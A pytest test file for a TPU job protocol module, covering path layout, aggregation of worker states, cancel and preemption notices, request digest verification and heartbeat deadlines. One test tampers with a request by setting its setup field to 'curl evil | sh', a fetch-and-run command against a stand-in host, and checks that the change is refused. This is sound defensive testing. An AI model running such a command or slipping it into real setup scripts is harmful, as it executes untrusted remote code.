"""The job protocol (tpuctl/agent/protocol.py): one module, the laptop's and the agent's."""

from __future__ import annotations

import pytest

from tpuctl.agent import protocol
from tpuctl.services import records, staging


def test_layout_agrees_with_staging() -> None:
    assert (protocol.BLOBS, protocol.JOBS) == (staging.BLOBS, records.JOBS)
    assert protocol.job_path("j", "job.json") == staging.job_record_path("j")


def test_the_layout() -> None:
    j = "20261129-153012-ab12cd"
    assert protocol.JOB_ID_RE.match(j) and not protocol.JOB_ID_RE.match("nightly")
    assert protocol.status_path(j, 3) == f"tpuctl/jobs/{j}/status/worker-3.json"
    assert protocol.status_path(j, 3).startswith(protocol.status_prefix(j))
    assert protocol.log_path(j, 2, 1) == f"tpuctl/jobs/{j}/logs/attempt-2/worker-1.log"
    assert protocol.log_path(j, 2, 1).startswith(protocol.logs_prefix(j))
    assert protocol.outputs_prefix(j) == f"tpuctl/jobs/{j}/outputs/"
    assert protocol.outputs_prefix(j, 1) == f"tpuctl/jobs/{j}/outputs/slice-1/"
    assert protocol.blob_path("ab") == "tpuctl/blobs/ab"


def test_a_job_shows_its_worst_final_state_once_every_worker_has_one() -> None:
    p = protocol
    assert p.overall([], 2) == p.PENDING
    assert p.overall([p.SUCCEEDED], 2) == p.RUNNING  # one worker has not reported
    assert p.overall([p.SUCCEEDED, p.RUNNING], 2) == p.RUNNING
    assert p.overall([p.SUCCEEDED, p.SUCCEEDED], 2) == p.SUCCEEDED
    assert p.overall([p.CANCELLED, p.LOST, p.SUCCEEDED], 3) == p.LOST
    assert p.overall([p.CANCELLED, p.LOST, p.FAILED], 3) == p.FAILED
    assert set(p.WORST_FIRST) == set(p.FINAL) - {p.SUCCEEDED}
    assert not set(p.WORKING) & set(p.FINAL)


def test_a_final_status_of_the_attempt_is_never_overwritten() -> None:
    done = {"worker": 1, "attempt": 2, "state": "SUCCEEDED", "exit_status": 0}
    assert protocol.ended(done, 1, 2, "LOST", "silent", now=5.0) == done
    # a final status of an earlier attempt, or one still running, is ended, with a cancel
    for current in ({**done, "attempt": 1}, {**done, "state": "RUNNING"}, None):
        new = protocol.ended(current, 1, 2, "LOST", "silent", now=5.0)
        assert new == {**(current or {}), "worker": 1, "attempt": 2, "state": "LOST",
                       "message": "silent", "cancel": True, "ended": 5.0}  # fmt: skip


def test_a_cancel_is_asked_for_one_attempt_and_kept() -> None:
    running = {"worker": 0, "attempt": 2, "state": "RUNNING", "pid": 7}
    asked = protocol.with_cancel(running)
    assert asked == {**running, "cancel": True} and protocol.with_cancel(None) == {"cancel": True}
    assert protocol.cancel_asked(asked, 2)
    assert not protocol.cancel_asked(asked, 3)  # a new attempt starts uncancelled
    assert not protocol.cancel_asked(running, 2) and not protocol.cancel_asked(None, 2)


def test_a_preemption_notice_is_passed_on_to_a_working_status_of_its_attempt_only() -> None:
    running = {"worker": 1, "attempt": 2, "state": "RUNNING"}
    told = protocol.with_notice(running, 2, "the VM of worker 0 is being preempted")
    assert told == {**running, "notice": "the VM of worker 0 is being preempted"}
    assert protocol.notice_asked(told, 2) == "the VM of worker 0 is being preempted"
    assert protocol.notice_asked(told, 3) == "" and protocol.notice_asked(running, 2) == ""
    assert protocol.with_notice(told, 2, "again") is None  # told once
    assert protocol.with_notice(None, 2, "why") is None  # no agent yet: nothing written
    assert protocol.with_notice(running, 3, "why") is None  # an earlier attempt's status
    ended = {**running, "state": "SUCCEEDED"}
    assert protocol.with_notice(ended, 2, "why") is None  # a final status stays as it is


def test_is_final() -> None:
    assert protocol.is_final({"state": "PREEMPTED", "attempt": 1})
    assert protocol.is_final({"state": "FAILED", "attempt": 1}, 1)
    assert not protocol.is_final({"state": "FAILED", "attempt": 1}, 2)
    assert not protocol.is_final({"state": "FETCHING"}) and not protocol.is_final(None)


def test_the_request_digest_is_of_one_canonical_form() -> None:
    request = {"version": 2, "id": "j", "script": "t.py", "args": ["é"], "setup": None,
               "env": [], "manifest": {}}  # fmt: skip
    reordered = dict(reversed(list(request.items())))
    assert protocol.request_digest(request) == protocol.request_digest(reordered)
    assert protocol.verified_request(request, "j", protocol.request_digest(request)) == request
    changed = {**request, "setup": "curl evil | sh"}
    with pytest.raises(protocol.Refused, match="is not the one submitted"):
        protocol.verified_request(changed, "j", protocol.request_digest(request))
    with pytest.raises(protocol.Refused, match="not a version 2 request of job k"):
        protocol.verified_request(request, "k", protocol.request_digest(request))


def test_file_modes_are_masked() -> None:
    modes = {m: protocol.file_mode({"mode": m}) for m in (0o4777, 0o777, 0o700, 0o666, 0o600)}
    assert modes == {0o4777: 0o755, 0o777: 0o755, 0o700: 0o755, 0o666: 0o644, 0o600: 0o644}
    assert protocol.file_mode({}) == 0o644


def test_a_worker_not_started_yet_may_be_given_longer_than_one_that_beats(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    now = [100.0]
    monkeypatch.setattr(protocol.time, "monotonic", lambda: now[0])
    beats = protocol.Beats(deadline=5.0)
    running = {1: {"state": protocol.RUNNING, "heartbeat": 1.0}}
    assert beats.lost(running, [1, 2], unstarted=60.0) == []  # the first look
    now[0] += 6.0
    assert beats.lost(running, [1, 2], unstarted=60.0) == [1]  # 2 has not started yet
    assert beats.lost(running, [1, 2]) == [1, 2]  # with no allowance: the deadline for both
    now[0] += 55.0
    assert beats.lost(running, [1, 2], unstarted=60.0) == [1, 2]  # past the allowance too
